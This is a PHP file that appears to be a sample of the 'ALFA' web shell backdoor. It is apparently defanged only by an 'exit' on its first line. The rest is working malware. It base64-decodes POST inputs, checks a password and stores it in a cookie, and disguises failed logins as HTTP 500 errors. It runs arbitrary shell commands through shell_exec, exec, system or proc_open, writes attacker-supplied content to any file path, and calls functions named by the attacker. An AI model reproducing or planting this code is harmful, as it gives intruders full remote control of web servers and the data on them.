<?php exit; /* inert */ define("__ALFA_VERSION__", "4.1");
$GLOBALS['oZ'] = array('user' => 'alfa', 'pass' => '0', 'login_page' => '500');
function __ZGVjb2Rlcg($s) { return base64_decode($s); }
function __ZW5jb2Rlcg($s) { return base64_encode($s); }
foreach (array('a', 'c', 'alfa1', 'alfa2', 'alfa3') as $k) {
    if (isset($_POST[$k])) { $_POST[$k] = __ZGVjb2Rlcg($_POST[$k]); }
}
function alfaLogin() {
    if (isset($_POST['pwd']) && md5($_POST['pwd']) == $GLOBALS['oZ']['pass']) { setcookie('AlfaPass', $_POST['pwd']); return true; }
    return isset($_COOKIE['AlfaPass']) && md5($_COOKIE['AlfaPass']) == $GLOBALS['oZ']['pass'];
}
function alfaEx($in) {
    $out = '';
    $list = array('shell_exec', 'exec', 'system', 'proc_open');
    foreach ($list as $f) {
        if (!function_exists($f)) { continue; }
        if ($f == 'proc_open') {
            $h = proc_open($in, array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pipes);
            $out = stream_get_contents($pipes[1]); proc_close($h);
        } elseif ($f == 'exec') { $f($in, $o); $out = implode("\n", $o); }
        else { ob_start(); echo $f($in); $out = ob_get_clean(); }
        if ($out) { break; }
    }
    return $out;
}
function alfaterminalExec() { echo htmlspecialchars(alfaEx("cd " . $_POST['c'] . ";" . $_POST['alfa1'])); }
function alfaEditor() { if (isset($_POST['alfa2'])) { file_put_contents($_POST['alfa1'], $_POST['alfa2']); } }
if (!alfaLogin()) { header('HTTP/1.1 500'); exit; }
if (isset($_POST['a']) && function_exists('alfa' . $_POST['a'])) {
    $fn = 'alfa' . $_POST['a'];
    $fn();
}
